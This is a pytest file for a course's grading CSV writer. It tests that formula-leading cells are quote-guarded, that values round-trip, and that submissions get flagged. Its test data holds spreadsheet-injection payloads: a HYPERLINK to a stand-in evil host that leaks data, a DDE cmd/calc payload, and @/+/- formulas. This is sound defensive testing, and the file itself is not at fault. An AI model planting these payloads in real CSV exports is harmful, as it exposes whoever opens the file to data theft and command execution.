"""The course's one CSV writer (grading/instructor/csvout.py):
no cell a spreadsheet runs as a formula.

Each writer of the course (the autograde report, the class report's rows, the LMS files, `make
grades`) is driven here with a student id, a name and a message that start a formula, and its
file is read back as a spreadsheet would see it; and no module of the course writes a CSV file
another way.
"""

import ast
import csv
import io
import json
from pathlib import Path
from types import SimpleNamespace

import nbformat
import pytest
from traitlets.config import Configurable

from grading.batch import report
from grading.batch.results import Result
from grading.instructor import class_report, csvout

ROOT = Path(__file__).resolve().parents[1]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak","click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "  =1+1",  # spaces in front
    "\t=1+1",
    "\r=1+1",  # plain() drops the carriage return; the formula stays guarded
    "\x1b[31m=1+1",  # an escape sequence in front, dropped by plain()
    "\uff1d1+1",  # full-width equals sign
    "\u3000=1+1",  # an ideographic space in front
]
HARMLESS = ["alice", "Smith, Alice", "a=b", "x-1", "1e-3", "", "1 + 1"]
NUMBERS = [-0.5, 3, 10.0, "-0.5", "+7", "-1e-3", ".5"]


def spreadsheet_formula(text):
    """What a spreadsheet runs: a text that starts with a formula character after any
    whitespace (full-width forms too), unless the first character is the text guard `'`."""
    if text.startswith("'"):
        return False
    start = text.lstrip()
    return start[:1] in "=+-@\uff1d\uff0b\uff0d\uff20" and start != "" and not _number(start)


def _number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_a_leading_quote_and_reads_back(text):
    written = csvout.cell(text)
    assert written.startswith("'"), written
    assert not spreadsheet_formula(written)
    assert "\x1b" not in written and "\r" not in written
    assert csvout.uncell(written) == csvout.plain(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_is_written_as_it_is(text):
    assert csvout.cell(text) == text
    assert csvout.uncell(csvout.cell(text)) == text


@pytest.mark.parametrize("value", NUMBERS + [None, True, False])
def test_numbers_none_and_booleans_stay(value):
    assert csvout.cell(value) == value


def test_a_leading_quote_is_doubled_so_the_guard_undoes_exactly():
    for text in ["'=1+1", "'quoted'", "O'Brien"]:
        assert csvout.uncell(csvout.cell(text)) == text
    assert csvout.cell("'=1+1") == "''=1+1"
    assert csvout.cell("O'Brien") == "O'Brien"


def test_writer_and_dictreader_round_trip(tmp_path):
    rows = [["student", "message", "score"]]
    rows += [[text, f"{text} again", 1.5] for text in FORMULAS + HARMLESS + ["'x"]]
    path = tmp_path / "out.csv"
    csvout.write(path, rows)
    with open(path, newline="") as handle:
        raw = list(csv.reader(handle))
    assert len(raw) == len(rows)
    assert not [c for row in raw for c in row if spreadsheet_formula(c)], raw
    with open(path, newline="") as handle:
        back = list(csvout.DictReader(handle))
    assert [r["student"] for r in back] == [csvout.plain(row[0]) for row in rows[1:]]
    buffer = io.StringIO()
    csvout.writer(buffer).writerows(rows[:2])
    assert buffer.getvalue().splitlines()[1].startswith("\"'=HYPERLINK")


def result(student, message, score=0.0):
    return Result(student, "graded", score, 13.0, message=message, seconds=1.25)


def test_autograde_report_guards_and_merges_the_same_student(tmp_path):
    """grading/batch/report.py's CSV (autograde-LAB.csv): a formula id and message are guarded, and
    a rerun of that student replaces its row instead of adding a second one."""
    path = tmp_path / "autograde-LM10-L2.csv"
    hostile = "=cmd|' /C calc'!A0"
    report.write_report(path, [result(hostile, "-1+1 first"), result("bob", "@x")])
    report.write_report(path, [result(hostile, "@SUM(1) second", 5.0)])
    with open(path, newline="") as handle:
        raw = list(csv.DictReader(handle))
    assert [r["student"] for r in raw] == ["'" + hostile, "bob"]
    assert raw[0]["message"] == "'@SUM(1) second" and raw[1]["message"] == "'@x"
    assert raw[0]["score"] == "5.0" and raw[0]["seconds"] == "1.2"
    with open(path, newline="") as handle:
        back = {r["student"]: r for r in csvout.DictReader(handle)}
    assert set(back) == {hostile, "bob"}


def test_class_report_csv_guards(tmp_path):
    path = tmp_path / "LM10-L2.csv"
    class_report.write_csv(path, [["LM10-L2", "student", "=evil()", "message", "+1+1"]])
    raw = list(csv.reader(path.open(newline="")))
    assert raw[1] == ["LM10-L2", "student", "'=evil()", "message", "'+1+1"]


def test_grades_export_guards(tmp_path):
    """`make grades` (grading/instructor/grades_export.py)
    with a gradebook of one hostile student."""
    from grading.instructor import grades_export

    student = SimpleNamespace(id="@evil", last_name="=HYPERLINK(1)", first_name="-x", email="")
    assignment = SimpleNamespace(name="LM10-L2", duedate=None, max_score=13.0)

    class Gradebook:
        students, assignments = [student], [assignment]

        def find_submission(self, *_):
            raise grades_export.MissingEntry

    class App(Configurable):
        coursedir = None  # read only for a submission, and this student has none

    exporter = grades_export.GradesExport(parent=App(), to=str(tmp_path / "grades.csv"))
    exporter.export(Gradebook())
    rows = list(csv.DictReader((tmp_path / "grades.csv").open(newline="")))
    assert rows[0]["student_id"] == "'@evil" and rows[0]["last_name"] == "'=HYPERLINK(1)"
    assert rows[0]["first_name"] == "'-x" and rows[0]["score"] == "0.0"


def writes_csv(tree):
    """Whether the code (not its strings: the flagger lists writers by name) uses csv.writer,
    csv.DictWriter, a DataFrame's to_csv or numpy's savetxt."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute):
            if node.attr in ("to_csv", "savetxt"):
                return True
            if node.attr in ("writer", "DictWriter") and getattr(node.value, "id", None) == "csv":
                return True
        if isinstance(node, ast.Name) and node.id == "savetxt":
            return True
        if isinstance(node, ast.alias) and node.name in ("writer", "DictWriter", "savetxt"):
            return True
    return False


def test_the_csv_writer_check_sees_code_not_strings():
    assert writes_csv(ast.parse("import csv\ncsv.writer(f)"))
    assert writes_csv(ast.parse("from csv import DictWriter"))
    assert writes_csv(ast.parse("frame.to_csv('x.csv')"))
    assert writes_csv(ast.parse("import numpy as np\nnp.savetxt('x', a)"))
    assert not writes_csv(ast.parse("WRITERS = ('savetxt(', 'csv.writer')"))


def test_every_csv_the_course_writes_goes_through_csvout():
    """No csv.writer, csv.DictWriter or hand-joined comma
    line outside grading/instructor/csvout.py."""
    offenders = []
    for folder in ("grading", "tools", "benchmarks", "lib"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            if path == ROOT / "grading" / "instructor" / "csvout.py":
                continue
            if writes_csv(ast.parse(path.read_text())):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == [], f"write CSV files with grading.instructor.csvout: {offenders}"


def test_grades_export_says_which_submissions_are_flagged(tmp_path):
    """The seventy-third hub tester's: `make grades` had no flag column. A submission the batch
    flags (`import os; print(os.listdir('.'))` in her answer, class_l2's flag-files), handed in
    again and autograded from the formgrader (whose Autograde reports no flag), read as a clean
    score there; the class report flags it (graded_later), the grades did not. Now `flagged`
    says it: yes from the notebook or the autograde report's row, no where neither holds."""
    from lab_cases import class_l2, fill, solution_answers

    from grading.instructor import grades_export

    lab = class_l2.LAB
    source = Path(__file__).resolve().parents[1] / "labs" / lab / f"{lab}.ipynb"
    release = tmp_path / "labs" / lab / f"{lab}.ipynb"
    release.parent.mkdir(parents=True)
    release.write_text(source.read_text())
    released = nbformat.read(release, as_version=4)
    answers = solution_answers(lab)
    honest = fill(nbformat.from_dict(released), dict(answers))
    answers["l2_serving"] += "\nimport os\nprint(os.listdir('.'))\n"
    hers = fill(nbformat.from_dict(released), answers)
    # the room's names, which the grader keeps in the graded notebook (SandboxedExecute)
    asked = nbformat.from_dict(json.loads(json.dumps(honest)))
    asked.metadata["lm10"] = {"isolated": True, "room_missed": ["LlamaConfig.get_mtp_config"]}
    people = {
        "mallory": (hers, "graded"),
        "bob": (honest, "graded"),
        "eve": (honest, "flagged"),
        "ann": (asked, "graded"),
    }
    (tmp_path / "grading").mkdir()
    with open(tmp_path / "grading" / f"autograde-{lab}.csv", "w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["student", "status", "message"])
        for name, (notebook, status) in people.items():
            writer.writerow([name, status, ""])
            folder = tmp_path / "grading" / "autograded" / name / lab
            folder.mkdir(parents=True)
            nbformat.write(notebook, folder / f"{lab}.ipynb")
    students = [
        SimpleNamespace(id=n, last_name="", first_name="", email="") for n in [*people, "zed"]
    ]
    assignment = SimpleNamespace(name=lab, duedate=None, max_score=13.0)
    submission = SimpleNamespace(timestamp=None, score=10.0, late_submission_penalty=0.0)

    class Gradebook:
        assignments = [assignment]

        def find_submission(self, _, student):
            if student == "zed":
                raise grades_export.MissingEntry
            return submission

    class Course:
        root, release_directory = str(tmp_path), "labs"
        autograded_directory = "grading/autograded/{student_id}/{assignment_id}"

        def format_path(self, pattern, student, lab):
            return str(tmp_path / pattern.format(student_id=student, assignment_id=lab))

    class App(Configurable):
        coursedir = Course()

    Gradebook.students = students
    exporter = grades_export.GradesExport(parent=App(), to=str(tmp_path / "grades.csv"))
    exporter.export(Gradebook())
    rows = {r["student_id"]: r for r in csv.DictReader((tmp_path / "grades.csv").open())}
    assert {n: r["flagged"] for n, r in rows.items()} == {
        "mallory": "yes",
        "bob": "no",
        "eve": "yes",
        "ann": "yes",
        "zed": "",
    }
